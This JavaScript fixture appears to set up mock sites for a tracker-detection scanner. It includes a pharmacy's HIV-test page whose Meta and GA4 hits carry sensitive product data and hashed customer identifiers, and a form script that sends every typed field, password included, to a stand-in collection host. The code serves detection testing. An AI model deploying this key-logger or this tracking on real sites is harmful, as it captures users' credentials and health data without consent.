// Testbed sites for what trackers take (issue 16): personal and sensitive data in hits, and
// key-logging.
//
//   health.example/                a pharmacy's product page for an in-home HIV test. Its Meta
//                                  Pixel (www.facebook.com/tr, ViewContent) carries the page URL,
//                                  the product (cd[content_name], cd[content_category] "Sexual
//                                  health") and advanced matching of the signed-in customer: SHA-256
//                                  of e-mail, first name and postal code (udff[em], udff[fn],
//                                  udff[zp]) as Meta asks; its GA4 hit (view_item) carries the title,
//                                  the product (pr1) and the search that led there (ep.search_term).
//   health.example/plain.html      the same shop's page for running socks: the same tags, nothing
//                                  sensitive (an ordinary shop page must give no sensitive finding)
//   signup.example/                a newsletter form (e-mail, first name, phone; never submitted
//                                  by the scan) with a third-party "form analytics" script,
//                                  cdn.formspy.example/fs.js, which sends what is typed as it is
//                                  typed: SHA-256 of the trimmed, lower-cased e-mail on `change`, and
//                                  the raw field values base64-encoded after each `input` pause, to
//                                  collect.formspy.example — key-logging.
//   signup.example/quiet.html      the same form with a script that only counts keystrokes (no
//                                  values leave): no key-logging finding.
import { HTML, respond } from './respond.mjs';
import crypto from 'node:crypto';

// The shop's signed-in customer, as its tag manager reads it from the account page.
const CUSTOMER = { email: 'jordan.example.customer@example.org', firstName: 'jordan', zip: '10115' };
const sha256 = s => crypto.createHash('sha256').update(s).digest('hex');

function healthPage({ product, category, search, path }) {
  const title = `${product} – CareCheck Pharmacy`;
  return `<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>${title}</title>
  <script>
  (function () {
    var dl = encodeURIComponent(location.href);
    var pixel = 'https://www.facebook.com/tr?id=918273645546372&ev=ViewContent&dl=' + dl + '&rl=&if=false&ts=' + Date.now() +
      '&cd[content_name]=' + encodeURIComponent(${JSON.stringify(product)}) +
      '&cd[content_category]=' + encodeURIComponent(${JSON.stringify(category)}) +
      '&cd[content_ids]=%5B%22${path}%22%5D&cd[value]=24.90&cd[currency]=EUR' +
      '&udff[em]=${sha256(CUSTOMER.email)}&udff[fn]=${sha256(CUSTOMER.firstName)}&udff[zp]=${sha256(CUSTOMER.zip)}' +
      '&sw=1920&sh=1080&v=2.9.150&r=stable';
    new Image().src = pixel;
    var cid = String(Math.floor(Math.random() * 1e9)) + '.' + Math.floor(Date.now() / 1000);
    navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2&tid=G-CARE0001&cid=' + cid +
      '&en=view_item&dl=' + dl + '&dt=' + encodeURIComponent(document.title) +
      '&pr1=' + encodeURIComponent('id${path}~nm${product}~ca${category}~pr24.90') +
      '&ep.search_term=' + encodeURIComponent(${JSON.stringify(search)}));
  })();
  </script>
</head>
<body>
  <h1>${product}</h1>
  <p>Category: ${category}. Discreet delivery in two days.</p>
</body>
</html>
`;
}

// The form analytics script: listens to the fields and sends what is typed, before any submit.
const FORMSPY_JS = String.raw`(function () {
  var endpoint = 'https://collect.formspy.example/k';
  function hex(buffer) {
    return Array.prototype.map.call(new Uint8Array(buffer), function (b) { return ('0' + b.toString(16)).slice(-2); }).join('');
  }
  var timer = null;
  document.addEventListener('change', function (e) {
    var el = e.target;
    if (!el || el.type !== 'email' || !el.value) return;
    crypto.subtle.digest('SHA-256', new TextEncoder().encode(el.value.trim().toLowerCase())).then(function (d) {
      new Image().src = endpoint + '?t=hem&h=' + hex(d);
    });
  }, true);
  document.addEventListener('input', function () {
    clearTimeout(timer);
    timer = setTimeout(function () {
      var values = {};
      document.querySelectorAll('input').forEach(function (i) { if (i.name) values[i.name] = i.value; });
      fetch(endpoint + '?t=snap', { method: 'POST', keepalive: true, mode: 'no-cors',
        body: btoa(unescape(encodeURIComponent(JSON.stringify(values)))) });
    }, 400);
  }, true);
})();`;

const QUIET_JS = String.raw`(function () {
  var keys = 0;
  document.addEventListener('keydown', function () { keys++; }, true);
  addEventListener('pagehide', function () { navigator.sendBeacon('https://collect.formspy.example/k?t=count&keys=' + keys); });
})();`;

function signupPage(script) {
  return `<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Newsletter — signup.example</title>
  <script src="${script}" async></script>
</head>
<body>
  <h1>Our newsletter</h1>
  <form action="/subscribe" method="post">
    <p><label>E-mail <input type="email" name="email" autocomplete="email"></label></p>
    <p><label>First name <input type="text" name="first_name" autocomplete="given-name"></label></p>
    <p><label>Phone <input type="tel" name="phone" autocomplete="tel"></label></p>
    <p><label>Password <input type="password" name="password"></label></p>
    <p><button type="submit">Subscribe</button></p>
  </form>
</body>
</html>
`;
}

function sink(req, res) {
  req.resume();
  res.statusCode = 204;
  res.setHeader('access-control-allow-origin', '*');
  res.end();
}

export const dataRoutes = {
  'health.example/': (req, res) => respond(res, HTML, healthPage({
    product: 'In-home HIV test kit', category: 'Sexual health', search: 'hiv test at home', path: 'hiv-self-test' })),
  'health.example/plain.html': (req, res) => respond(res, HTML, healthPage({
    product: 'Merino running socks', category: 'Sportswear', search: 'running socks', path: 'merino-socks' })),
  'signup.example/': (req, res) => respond(res, HTML, signupPage('https://cdn.formspy.example/fs.js')),
  'signup.example/quiet.html': (req, res) => respond(res, HTML, signupPage('https://cdn.formspy.example/quiet.js')),
  'signup.example/subscribe': (req, res) => respond(res, HTML, '<!doctype html><title>Thanks</title><p>Subscribed.</p>'),
  'cdn.formspy.example/fs.js': (req, res) => respond(res, 'text/javascript', FORMSPY_JS),
  'cdn.formspy.example/quiet.js': (req, res) => respond(res, 'text/javascript', QUIET_JS),
  'collect.formspy.example/k': sink,
  // www.facebook.com/tr and region1.google-analytics.com/g/collect: beacon-sites.mjs.
};
